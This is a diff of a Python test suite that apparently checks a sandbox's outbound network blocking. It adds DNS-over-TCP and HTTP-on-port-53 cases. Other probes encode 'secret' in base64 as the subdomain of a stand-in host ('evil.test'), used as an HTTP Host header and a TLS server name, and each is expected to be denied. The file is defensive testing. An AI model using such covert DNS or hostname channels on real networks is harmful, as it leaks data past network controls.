@@ -42,6 +42,12 @@ client = socket.socket(socket.AF_INET, socket.SOCK_DGRAM); client.settimeout(3)
 client.sendto({QUERY}, ("10.77.0.2", 53))
 return client.recv(600)[3] & 15
 """
+ASK_STREAM = f"""
+client = socket.create_connection(("10.77.0.2", 53), 3)
+query = {QUERY}
+client.sendall(len(query).to_bytes(2, "big") + query)
+return client.recv(600)[5] & 15
+"""
 RELAY = "forked(lambda: forked(lambda: say(get('/shut'))))"
 SUBTREE = """
 below = cgroups + open("/proc/self/cgroup").read().strip().rpartition(":")[2] + "/below"
@@ -98,7 +104,8 @@ SILENT: list[tuple[str, str, str, tuple[str, ...]]] = [
     ("8 foreign source address", "root", "return transparent()", (*DENIED, "EADDRNOTAVAIL", "EHOSTUNREACH")),
     ("9 a name as a message", "user", ASK, ("3",)),
     ("9 DNS over TLS", "user", 'say(b"x", port=853, tls="dns.test")', (*DENIED, "cut")),
-    ("9 DNS over TCP", "user", 'tcp("10.77.0.2", 53)', REFUSED),
+    ("9 a name as a message over TCP", "user", ASK_STREAM, ("3",)),
+    ("9 what is no DNS over TCP", "user", 'say(b"GET / HTTP/1.1\\r\\n\\r\\n", port=53)', ("cut", *REFUSED)),
     ("9 a name as a Host", "user", 'say(get("/x", "c2VjcmV0.evil.test"))', DENIED),
     ("9 a name as a server's", "user", 'say(get("/x", "c2VjcmV0.evil.test"), port=443, tls="c2VjcmV0.evil.test")', DENIED),
     ("9 mDNS", "user", 'udp("224.0.0.251", 5353)', REFUSED),
